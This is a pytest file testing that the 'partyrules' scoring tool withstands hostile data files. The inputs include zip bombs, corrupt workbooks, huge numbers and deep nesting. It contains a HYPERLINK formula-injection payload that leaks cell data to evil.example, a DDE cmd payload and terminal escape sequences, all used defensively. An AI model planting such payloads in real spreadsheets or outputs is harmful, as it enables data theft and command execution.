"""Hostile and careless data files, criteria and outputs (issue 13): nothing lost, nothing injected, nothing crashes.

Each test is named after the finding it answers (``test_finding_N_...``); each failed before its fix.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import partyrules
from partyrules import data
from test_cli import run

RULES = """\
ruleset "test/hostile" {
  title "Thử dữ liệu xấu";
  version "1";
  basis "Thử";
  effective from 2024-01-01;
  points illustrative "thử";
}

input minutes "Thời lượng (phút)": integer 0..600;

criteria "Buổi sinh hoạt" max 10 {
  item thoi_luong "Thời lượng" max 10 {
    points = bands minutes { from 90: 10; otherwise: 0; };
  }
}

grades {
  grade tot "Tốt" { band from 5; }
  grade kem "Kém" { band below 5; }
}
"""


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.criteria"
    path.write_text(RULES, encoding="utf-8")
    return path


def workbook_of(rows: list[list[Any]], path: Path) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def rewrite_member(path: Path, member: str, change: Callable[[bytes], bytes]) -> Path:
    """The workbook with one archive member's bytes changed (the others copied as they are)."""
    with zipfile.ZipFile(path) as source:
        items = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, content in items:
            target.writestr(info, change(content) if info.filename == member else content)
    return path


SHEET = "xl/worksheets/sheet1.xml"


def jsonl_of(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


# ---------------------------------------------------------------- 1. workbooks read past their recorded size


def test_finding_1_xlsx_recorded_size_ignored(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path) -> None:
    """A workbook whose `<dimension>` says A1:B2 while it holds four organisations: all four are read, and a
    value far right of the header (column XFD) rejects its row instead of being dropped."""
    rows: list[list[Any]] = [["org_id", "minutes"], ["a", 90], ["b", 10], ["c", 95], ["d", 100]]
    path = workbook_of(rows, tmp_path / "small-dimension.xlsx")
    rewrite_member(path, SHEET, lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', xml))
    rewrite_member(
        path, SHEET, lambda xml: xml.replace(b"</row></sheetData>", b'<c r="XFD5"><v>7</v></c></row></sheetData>')
    )
    status, out, err = run(capsys, "score", rules, path, "-o", tmp_path / "r.jsonl")
    assert [r["id"] for r in jsonl_of(tmp_path / "r.jsonl")] == ["a", "b", "c"]
    assert err.splitlines() == [f"{path}:5 (d): has a value in column XFD, which has no name in the header"]
    assert "rows scored: 3" in out and "rows rejected: 1" in out
    assert status == 1


def test_finding_11_xlsx_limits(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sheet declaring the whole grid (A1:XFD1048576) is read as the rows it holds; a zip bomb is refused
    before it is unpacked; a sheet over the cell limit is refused, naming the file."""
    path = workbook_of([["org_id", "minutes"], ["a", 90]], tmp_path / "grid.xlsx")
    rewrite_member(path, SHEET, lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml))
    status, out, err = run(capsys, "score", rules, path)
    assert (status, err) == (0, "")
    assert "rows scored: 1" in out

    bomb = workbook_of([["org_id", "minutes"], ["a", 90]], tmp_path / "bomb.xlsx")
    rewrite_member(bomb, SHEET, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (8 << 20)))
    status, _, err = run(capsys, "score", rules, bomb)
    assert status == 2
    assert err.startswith(f"partyrules: {bomb}: the part {SHEET} would unpack 8,")
    assert "more than 100 times" in err

    monkeypatch.setattr("partyrules.workbook.XLSX_MAX_CELLS", 5)
    wide = workbook_of([["org_id", "minutes"], ["a", 90], ["b", 90], ["c", 90]], tmp_path / "wide.xlsx")
    status, _, err = run(capsys, "score", rules, wide)
    assert status == 2
    assert err.startswith(f"partyrules: {wide}: the sheet holds more than 5 cells")


# ---------------------------------------------------------------- 9. damaged workbooks


def _truncated(xml: bytes) -> bytes:
    return xml[: len(xml) // 2]


def _undefined_entity(xml: bytes) -> bytes:
    return xml.replace(b"<t>a</t>", b"<t>&bomb;</t>")


DAMAGES: dict[str, Callable[[Path], object]] = {
    "truncated sheet XML": lambda p: rewrite_member(p, SHEET, _truncated),
    "undefined entity": lambda p: rewrite_member(p, SHEET, _undefined_entity),
    "missing sheet": lambda p: _drop_member(p, SHEET),
    "damaged deflate stream": lambda p: _damage_crc(p, SHEET),
    "not xml at all": lambda p: rewrite_member(p, "xl/workbook.xml", lambda _: b"not xml <"),
    # found by tests/test_fuzz_data.py (thorough, seeds 13106 and 13113): zipfile's NotImplementedError
    "unknown compression method": lambda p: _damage_header(p, SHEET, 8, 99),
    "patched data flag": lambda p: _damage_header(p, SHEET, 6, 0x20),
    "encrypted flag": lambda p: _damage_header(p, SHEET, 6, 0x01),
    # found by the thorough data fuzzers (seed 1818188405): a directory entry needing zip version 6.4
    # made zipfile raise NotImplementedError while the archive's sizes were checked, before any reading
    "zip version too new": lambda p: _damage_header(p, SHEET, 4, 64),
}


def _damage_header(path: Path, member: str, offset: int, value: int) -> None:
    """The byte at ``offset`` of a member's local header (6: flags, 8: compression method) set to ``value``,
    and the same field of its central directory entry (two bytes further: it adds "version made by")."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        raw[archive.getinfo(member).header_offset + offset] = value
    central = raw.find(b"PK\x01\x02")
    while raw[central + 46 : central + 46 + len(member)] != member.encode():
        central = raw.find(b"PK\x01\x02", central + 4)
    raw[central + offset + 2] = value
    path.write_bytes(bytes(raw))


def _drop_member(path: Path, member: str) -> None:
    with zipfile.ZipFile(path) as source:
        items = [(info, source.read(info)) for info in source.infolist() if info.filename != member]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, content in items:
            target.writestr(info, content)


def _damage_crc(path: Path, member: str) -> None:
    """A byte of the sheet's compressed data flipped: the archive no longer inflates (zlib.error)."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    raw[info.header_offset + 30 + len(info.filename) + len(info.extra) + 5] ^= 0xFF
    path.write_bytes(bytes(raw))


@pytest.mark.parametrize("damage", DAMAGES)
def test_finding_9_corrupt_workbooks(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path, damage: str
) -> None:
    path = workbook_of([["org_id", "minutes"], ["a", 90], ["b", 10]], tmp_path / "damaged.xlsx")
    DAMAGES[damage](path)
    status, _, err = run(capsys, "score", rules, path)
    assert status == 2
    assert err.startswith(f"partyrules: {path}: cannot be read as an Excel .xlsx workbook ("), err
    assert len(err.splitlines()) == 1


# ---------------------------------------------------------------- 2. outputs that run no formula

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LIVE_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def hostile_labels(text: str) -> str:
    return text.replace('grade tot "Tốt"', 'grade tot "=1+1"').replace(
        'title "Thử dữ liệu xấu"', "title \"=cmd|' /C calc'!A0\""
    )


def no_formula_in(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert not LIVE_FORMULA.search(archive.read(member)), member


def test_finding_2_formula_injection(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path) -> None:
    """A formula in an id, a kept column, a column's name, a grade's label or a title reaches no output as a
    live formula: CSV cells that a spreadsheet would run get a leading `'`; workbook cells are text."""
    rules.write_text(hostile_labels(RULES), encoding="utf-8")
    source = tmp_path / "d.csv"
    rows = [["org_id", "minutes", "note", "@SUM(1)"], [INJECTED, "90", "+1+cmd", "-2+3"], ["b", "10", "-5", "\tx"]]
    with open(source, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.csv")
    assert status == 0, err
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
        header, first, second = list(csv.reader(f))
    assert header[:4] == ["id", "note", "'@SUM(1)", "total"]
    assert first[:3] == ["'" + INJECTED, "'+1+cmd", "'-2+3"]
    assert first[4:6] == ["tot", "'=1+1"]
    assert second[:3] == ["b", "-5", "'\tx"]  # a plain number is no formula: left as it is

    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.xlsx")
    assert status == 0, err
    no_formula_in(tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")[data.RESULTS_SHEET]
    assert [sheet.cell(2, c).value for c in (1, 2, 3, 6)] == [INJECTED, "+1+cmd", "-2+3", "=1+1"]
    assert sheet.cell(2, 1).data_type == "s" and sheet.cell(2, 1).quotePrefix

    status, _, err = run(capsys, "render", rules, "--to", "xlsx", "-o", tmp_path / "fill.xlsx")
    assert status == 0, err
    no_formula_in(tmp_path / "fill.xlsx")
    guide = openpyxl.load_workbook(tmp_path / "fill.xlsx")["Hướng dẫn"]
    assert guide["B2"].value == "=cmd|' /C calc'!A0"


def test_a_nul_in_a_value_is_written_to_csv_as_its_picture_on_every_python(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path
) -> None:
    """Found by the data fuzzers under Python 3.10, whose CSV writer cannot write a NUL: `score -o r.csv`
    crashed on a JSON value holding one. Every Python now writes the same bytes: the NUL as ``␀``."""
    source = tmp_path / "d.jsonl"
    source.write_text('{"org_id": "a\\u0000b", "minutes": 90, "note\\u0000": "x\\u0000"}\n', encoding="utf-8")
    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.csv")
    assert status == 0, err
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    assert header[:2] == ["id", "note\u2400"] and row[:2] == ["a\u2400b", "x\u2400"]


# ---------------------------------------------------------------- 7. control characters in workbooks


def test_finding_7_control_characters_in_workbooks(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path
) -> None:
    """A control character in a data value is written to a workbook as its picture (\\x1f as ␟), never
    crashing the output; in a label of a criteria file (\\x0b) it is an error of `check` (PR004)."""
    source = tmp_path / "d.csv"
    source.write_text("org_id,minutes,note\r\na\x01,90,x\x1fy\r\n", encoding="utf-8")
    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.xlsx")
    assert status == 0, err
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")[data.RESULTS_SHEET]
    assert [sheet.cell(2, c).value for c in (1, 2)] == ["a\u2401", "x\u241fy"]
    rules.write_text(RULES.replace('grade tot "Tốt"', 'grade tot "T\x0bốt"'), encoding="utf-8")
    status, out, _ = run(capsys, "check", rules)
    assert status == 1
    assert f"{rules}:18:15: error PR004: U+000B (a control character) cannot stand in a criteria file" in out
    status, _, err = run(capsys, "render", rules, "--to", "xlsx", "-o", tmp_path / "fill.xlsx")
    assert status == 2 and "PR004" in err
    assert not (tmp_path / "fill.xlsx").exists()


def test_a_quoted_source_line_sends_no_control_or_reordering_character_to_the_terminal(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A label holding an escape sequence, a right-to-left override and a zero-width space: `check` names
    them, and the line it quotes shows each as a visible character of one column (ESC as its picture,
    the others as U+FFFD), so the caret still stands under the place named."""
    path = tmp_path / "esc.criteria"
    label = "Th\x1b[31mời\x1b]0;PWNED\x07 lư\u202eợng\u200b"
    path.write_text(RULES.replace('item thoi_luong "Thời lượng"', f'item thoi_luong "{label}"'), encoding="utf-8")
    status, out, _ = run(capsys, "check", path)
    assert status == 1
    assert not any(c in out for c in "\x1b\x07\u202e\u200b")
    line = next(n for n, text in enumerate(RULES.splitlines(), 1) if "item thoi_luong" in text)
    quoted = [text for text in out.splitlines() if text.startswith(f"{line:>4} | ")]
    assert quoted and "Th\u241b[31mời\u241b]0;PWNED\u2407 lư\ufffdợng\ufffd" in quoted[0]
    # each caret under the character its diagnostic names: the line keeps one column a character
    lines = out.splitlines()
    for i, text in enumerate(lines):
        found = re.match(rf"{re.escape(str(path))}:{line}:(\d+): error", text)
        if found and i + 2 < len(lines) and lines[i + 1].startswith(f"{line:>4} | "):
            column = int(found.group(1))
            assert lines[i + 2].index("^") - len(f"{line:>4} | ") == column - 1


def test_a_diagnostic_quotes_the_line_it_names_past_a_line_separator_in_a_comment(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """U+2028 and U+2029 in a comment break no line for the parser (nor for the quoting, which once split at
    them as str.splitlines does): the quoted line is the one the position names, not the one before it."""
    path = tmp_path / "ls.criteria"
    text = "# ghi chú\u2028còn ghi chú\u2029và\n" + RULES.replace("points = bands minutes", "points = bands minutez")
    path.write_text(text, encoding="utf-8")
    status, out, _ = run(capsys, "check", path)
    assert status == 1
    line = next(n for n, row in enumerate(text.split("\n"), 1) if "minutez" in row)
    assert f"{path}:{line}:" in out
    quoted = [row for row in out.splitlines() if row.startswith(f"{line:>4} | ")]
    assert quoted and "bands minutez" in quoted[0]


# ---------------------------------------------------------------- 3. outputs over inputs, links and devices


def test_finding_3_outputs_never_replace_inputs_links_or_devices(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path
) -> None:
    """`--report RULES`, `--output` over a base of the rules, a symbolic link or a pipe: refused before
    anything is written, the file (or link, or pipe) left as it was."""
    source = tmp_path / "d.csv"
    source.write_text("org_id,minutes\r\na,90\r\n", encoding="utf-8")
    text = rules.read_text(encoding="utf-8")
    status, _, err = run(capsys, "score", rules, source, "--report", rules)
    assert status == 2
    assert err == f"partyrules: {rules}: this is a criteria file of the rules; write the results to another file\n"
    assert rules.read_text(encoding="utf-8") == text

    root = tmp_path / "criteria"
    (root / "test").mkdir(parents=True)
    base = root / "test" / "hostile.criteria"
    base.write_text(text, encoding="utf-8")
    child = root / "test" / "child.criteria"
    header = text[: text.index("}\n") + 2]  # the ruleset block alone: the child changes nothing else
    child.write_text(
        header.replace('"test/hostile" {', '"test/child" {\n  extends "test/hostile";').replace('"1"', '"2"'),
        encoding="utf-8",
    )
    status, _, err = run(capsys, "score", child, source, "--path", root, "-o", tmp_path / "r.csv")
    assert status == 0, err  # a new file beside the rules is fine
    status, _, err = run(capsys, "render", child, "--path", root, "--to", "md", "-o", base)
    assert status == 2
    assert err == f"partyrules: {base}: this is a criteria file of the rules; write the results to another file\n"
    assert base.read_text(encoding="utf-8") == text
    base_as_output = tmp_path / "base.csv"
    base_as_output.symlink_to(rules)

    status, _, err = run(capsys, "score", rules, source, "-o", base_as_output)
    assert status == 2
    assert err == f"partyrules: {base_as_output}: is a symbolic link; give the path of a regular file to write\n"
    assert base_as_output.is_symlink() and rules.read_text(encoding="utf-8") == text

    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    status, _, err = run(capsys, "score", rules, source, "-o", pipe)
    assert status == 2
    assert "is not a regular file" in err
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    with pytest.raises(data.DataError, match="is not a regular file"):
        data.write_atomic(pipe, lambda stream: stream.write("x"))


@pytest.mark.parametrize("cache", [False, True])
def test_an_output_never_replaces_an_examples_table_of_the_rules(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cache: bool
) -> None:
    """The examples table a criteria file reads (`examples "..." from "x.csv";`) is one of the rules' inputs:
    `score` and `grade` refuse to write their results over it, from a fresh load and from the cache (whose
    ruleset has no checked model to find it in), and the table is left as it was."""
    monkeypatch.setenv("PARTYRULES_CACHE_DIR", str(tmp_path / "cache"))
    shipped = Path(partyrules.__file__).parent / "criteria" / "vn"
    root = tmp_path / "criteria"
    (root / "vn").mkdir(parents=True)
    for name in ("annual-collective@366.criteria", "annual-collective@366.examples.csv", "collective-facts.criteria"):
        (root / "vn" / name).write_bytes((shipped / name).read_bytes())
    table = root / "vn" / "annual-collective@366.examples.csv"
    before = table.read_bytes()
    rows = tmp_path / "rows.csv"
    rows.write_bytes(before)
    lookup = ["--path", root, "--on", "2025-12-31", *([] if cache else ["--no-cache"])]
    if cache:  # the ruleset kept in the cache, as the next command finds it
        assert run(capsys, "score", "vn/annual-collective", rows, *lookup, "-o", tmp_path / "r.csv")[0] == 0
    status, _, err = run(capsys, "score", "vn/annual-collective", rows, *lookup, "-o", table)
    assert status == 2
    assert err == f"partyrules: {table}: this is an examples table of the rules; write the results to another file\n"
    status, _, err = run(capsys, "grade", rows, "--level", "org=vn/annual-collective", *lookup, "-o", table)
    assert status == 2 and "this is an examples table of the rules" in err
    assert table.read_bytes() == before
    assert run(capsys, "check", root / "vn" / "annual-collective@366.criteria", "--path", root)[0] == 0


# ---------------------------------------------------------------- 4. repeated keys and ids


def test_finding_4_duplicate_json_keys_and_ids(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path) -> None:
    """A JSON object with a key twice (as written, or once trimmed and normalised) is a rejected row, not
    scored with whichever value came last; a repeated id is a warning on its row, in every format."""
    lines = [
        '{"org_id": "a", "minutes": 90, "minutes": 10}',
        '{"org_id": "b", "minutes": 90, " minutes": 10}',
        '{"org_id": "c", "minutes": 95, "note": "Tô\u0301t", "note": "x"}',
        '{"org_id": "d", "minutes": 95, "nh\u00f3m": 1, "nho\u0301m": 2}',
        '{"org_id": "e", "minutes": 95}',
        '{"org_id": "e", "minutes": 10}',
    ]
    jsonl = tmp_path / "d.jsonl"
    jsonl.write_text("\n".join(lines) + "\n", encoding="utf-8")
    status, out, err = run(capsys, "score", rules, jsonl)
    assert status == 1
    assert err.splitlines() == [
        f"partyrules: warning: {jsonl}:6: the id `e` is also row 5's",
        f"{jsonl}:1: has the key `minutes` more than once; keep one",
        f"{jsonl}:2: has the key `minutes` more than once (once its spaces and accents are normalised); keep one",
        f"{jsonl}:3: has the key `note` more than once; keep one",
        f"{jsonl}:4: has the key `nhóm` more than once (once its spaces and accents are normalised); keep one",
    ]
    assert "rows scored: 2" in out

    array = tmp_path / "d.json"
    array.write_text("[" + ",".join(lines) + "]", encoding="utf-8")
    status, _, err = run(capsys, "score", rules, array)
    assert status == 1
    assert f"{array}:1: has the key `minutes` more than once; keep one" in err.splitlines()

    table = tmp_path / "d.csv"
    table.write_text("org_id,minutes\r\nx,90\r\ny,90\r\nx,10\r\n", encoding="utf-8")
    status, _, err = run(capsys, "score", rules, table)
    assert (status, err) == (0, f"partyrules: warning: {table}:4: the id `x` is also row 2's\n")


# ---------------------------------------------------------------- 5. numbers of any size, 8. nesting, 10. surrogates

HUGE = "9" * 5000


def test_finding_5_huge_numbers_are_row_errors(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path) -> None:
    """A number of 5,000 digits (or a Decimal 10**999999999) rejects its own row, in every format and through
    the API, where it is a FactsError (RowError in a batch) and the batch goes on."""
    message = "minutes: is a number of more than 1000 digits, more than partyrules reads"
    table = tmp_path / "d.csv"
    table.write_text(f"org_id,minutes\r\na,90\r\nb,{HUGE}\r\nc,-{HUGE}\r\nd,95\r\n", encoding="utf-8")
    lines = [
        '{"org_id": "a", "minutes": 90}',
        f'{{"org_id": "b", "minutes": {HUGE}}}',
        '{"org_id": "d", "minutes": 1e999999999}',
    ]
    jsonl = tmp_path / "d.jsonl"
    jsonl.write_text("\n".join(lines), encoding="utf-8")
    array = tmp_path / "d.json"
    array.write_text("[" + ",".join(lines) + "]", encoding="utf-8")
    expected = {
        table: [f"{table}:3 (b): {message}", f"{table}:4 (c): {message}"],
        jsonl: [f"{jsonl}:2 (b): {message}", f"{jsonl}:3 (d): {message}"],
        array: [f"{array}:2 (b): {message}", f"{array}:3 (d): {message}"],
    }
    for path, problems in expected.items():
        status, out, err = run(capsys, "score", rules, path)
        assert status == 1
        assert err.splitlines() == problems
        assert "rows scored: 1" in out or "rows scored: 2" in out

    ruleset = partyrules.loads(RULES, "hostile.criteria")
    for value in (10**5000, HUGE, Decimal("1E+999999999"), "0." + "0" * 1100 + "1"):
        with pytest.raises(partyrules.FactsError, match="more than 1000 digits"):
            ruleset.evaluate({"minutes": value})
    first, second, third = ruleset.evaluate_many([{"minutes": 10}, {"minutes": 10**5000}, {"minutes": 95}])
    assert isinstance(second, partyrules.FactsError) and "more than 1000 digits" in str(second)
    assert (first.total, third.total) == (0, 10)  # type: ignore[union-attr]


def test_finding_8_deep_json_nesting(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path) -> None:
    """JSON nested 100,000 deep: one JSON line is rejected alone; a JSON file is refused with a message."""
    deep = "[" * 100_000 + "]" * 100_000
    jsonl = tmp_path / "d.jsonl"
    jsonl.write_text(f'{{"org_id": "a", "minutes": 90}}\n{{"org_id": "b", "note": {deep}}}\n', encoding="utf-8")
    status, out, err = run(capsys, "score", rules, jsonl)
    assert status == 1
    assert err == f"{jsonl}:2: is nested too deeply to be read (JSON of organisations' facts needs a few levels)\n"
    assert "rows scored: 1" in out
    array = tmp_path / "d.json"
    array.write_text(f"[{deep}]", encoding="utf-8")
    status, _, err = run(capsys, "score", rules, array)
    assert status == 2
    assert err.startswith(f"partyrules: {array}: the file is nested too deeply")


def test_finding_10_lone_surrogates_in_json_data(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path
) -> None:
    """A JSON escape of half a surrogate pair (\\ud800) is no character: its row is rejected, instead of the
    results file failing to be written; a whole pair (an emoji) is kept."""
    jsonl = tmp_path / "d.jsonl"
    jsonl.write_text(
        '{"org_id": "a", "minutes": 90, "note": "\\ud83d\\ude00"}\n{"org_id": "b", "minutes": 90, "note": ["x", "\\ud800"]}\n',
        encoding="utf-8",
    )
    status, out, err = run(capsys, "score", rules, jsonl, "-o", tmp_path / "r.csv")
    assert status == 1
    assert err == f"{jsonl}:2: holds \\ud800, half of a surrogate pair, which is no character; fix the text\n"
    assert "rows scored: 1" in out
    assert "\U0001f600" in (tmp_path / "r.csv").read_text(encoding="utf-8")


def test_finding_10_criteria_reading_is_bounded(capsys: pytest.CaptureFixture[str]) -> None:
    """`check /dev/zero` reads 4 MiB and a byte, then stops (it read without end); half a surrogate pair in
    criteria text is a diagnostic, not a UnicodeEncodeError from fingerprinting."""
    status, out, _ = run(capsys, "check", "/dev/zero")
    assert status == 1
    assert "/dev/zero:1:1: error PR001: the file is larger than 4 MiB" in out
    with pytest.raises(partyrules.CriteriaError) as caught:
        partyrules.loads(RULES.replace("Tốt", "T\ud800t"), "hostile.criteria")
    assert "hostile.criteria:18:15: error PR004: U+D800 (half of a surrogate pair)" in str(caught.value)


# ---------------------------------------------------------------- 5 and 11. limits on criteria text

LONG = "9" * 5000
CRITERIA_LIMITS = {
    "a bound of 5,000 digits": (RULES.replace("integer 0..600", f"integer 0..{LONG}"), "PR013", "5000 digits"),
    "places of 5,000 digits": (RULES.replace("integer 0..600", f"decimal 0..600 places {LONG}"), "PR013", "5000"),
    "a threshold of 5,003 digits": (RULES.replace("from 90:", f"from 0.0{LONG}1:"), "PR013", "5003 digits"),
    "rescale round 1000000": (
        RULES.replace("max 10 {\n  item", "max 10 {\n  rescale round 1000000;\n  item"),
        "PR014",
        "`rescale round 1000000` keeps more decimal places than the 12",
    ),
    "rescale round of 5,000 digits": (
        RULES.replace("max 10 {\n  item", f"max 10 {{\n  rescale round {LONG};\n  item"),
        "PR013",
        "5000 digits",
    ),
    "a formula of long factors": (
        RULES.replace("bands minutes { from 90: 10; otherwise: 0; }", "minutes * " + " * ".join(["9" * 40] * 110)),
        "PR504",
        "can reach about 6E+122, 10^100 or more",
    ),
}


@pytest.mark.parametrize("case", CRITERIA_LIMITS)
def test_finding_5_and_11_criteria_limits(case: str) -> None:
    """Numbers too long to use, and places too many to round to, are diagnostics of `check`: before, they
    passed it and crashed `score` (ValueError), crashed `check` itself, or took 35 s a row."""
    text, code, words = CRITERIA_LIMITS[case]
    with pytest.raises(partyrules.CriteriaError) as caught:
        partyrules.loads(text, "hostile.criteria")
    (problem,) = caught.value.diagnostics
    assert problem.code == code
    assert words in problem.message


# ---------------------------------------------------------------- 6. long flat lists


def test_finding_6_long_flat_lists(capsys: pytest.CaptureFixture[str]) -> None:
    """3,000 items are summed without nesting (`p0 + p1 + ...` of 2,500 terms overflowed CPython's compiler:
    RecursionError after check had passed); 40 grades are found by a loop, as the chain finds them; a
    bands of 501 bands is PR015 (each band is a conditional nested in the one before)."""
    items = "\n".join(f'  item i{j} "I{j}" max 1 {{ points = min(1, minutes); }}' for j in range(3000))
    text = RULES.replace('criteria "Buổi sinh hoạt" max 10 {', f'criteria "Buổi sinh hoạt" max 3010 {{\n{items}')
    ruleset = partyrules.loads(text, "items.criteria")
    assert [ruleset.evaluate({"minutes": m}).total for m in (0, 95)] == [0, 3010]

    grades = "\n".join(f'  grade g{j} "G{j}" {{ band from {40 - j} below {41 - j}; }}' for j in range(1, 40))
    text = RULES.replace("integer 0..600", "integer 0..40").replace(
        "bands minutes { from 90: 10; otherwise: 0; }", "min(10, minutes)"
    )
    text = text.replace('grade tot "Tốt" { band from 5; }\n  grade kem "Kém" { band below 5; }', "")
    text = text.replace("max 10", "max 40").replace("min(10,", "min(40,")
    text = text.replace(
        "grades {\n",
        f'grades {{\n  grade g0 "G0" {{ band from 40; }}\n{grades}\n  grade g40 "G40" {{ band below 1; }}\n',
    )
    ruleset = partyrules.loads(text, "grades.criteria")
    assert [ruleset.evaluate({"minutes": m}).grade for m in (40, 39, 17, 1, 0)] == ["g0", "g1", "g23", "g39", "g40"]

    bands = " ".join(f"from {501 - j}: 10;" for j in range(501))
    with pytest.raises(partyrules.CriteriaError) as caught:
        partyrules.loads(RULES.replace("from 90: 10;", bands), "bands.criteria")
    (problem,) = caught.value.diagnostics
    assert (problem.code, problem.message) == ("PR015", "501 bands; at most 500")


# ---------------------------------------------------------------- 13. what reaches the terminal


def test_finding_13_escape_sequences_never_reach_the_terminal(
    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path
) -> None:
    """An ESC sequence or a bidirectional mark in a data file's id, value or summary column is shown escaped
    on the terminal (`\\x1b[2J` cleared the screen)."""
    source = tmp_path / "d.csv"
    source.write_text("org_id,minutes,district\r\na\x1b[2J,x\u202e,d\r\nb,90,d\x1b]0;owned\x07\r\n", encoding="utf-8")
    status, out, err = run(capsys, "score", rules, source, "--summary", "district")
    assert status == 1
    assert "\x1b" not in err + out and "\u202e" not in err
    assert f"{source}:2 (a\\x1b[2J): minutes: 'x\\u202e' is not a whole number" in err
    assert "d\\x1b]0;owned\\x07" in out


def test_finding_13_one_rule_for_digits() -> None:
    """Full-width and Arabic-Indic digits are refused in numbers as they are in dates (they were read as
    numbers: "９０" scored as 90)."""
    ruleset = partyrules.loads(RULES, "hostile.criteria")
    for text in ("\uff19\uff10", "\u0669\u0660", "9\u0660"):
        with pytest.raises(partyrules.FactsError, match="is not a whole number"):
            ruleset.evaluate({"minutes": text})
    assert ruleset.evaluate({"minutes": "90"}).total == 10


def test_finding_13_bidirectional_controls_in_criteria() -> None:
    """A right-to-left override (U+202E) in criteria text makes a line read otherwise than it parses: it is
    PR004, as control characters are (it passed without a word)."""
    with pytest.raises(partyrules.CriteriaError) as caught:
        partyrules.loads(RULES.replace('"Tốt"', '"T\u202eốt"'), "hostile.criteria")
    assert "hostile.criteria:18:15: error PR004: U+202E (a bidirectional control)" in str(caught.value)
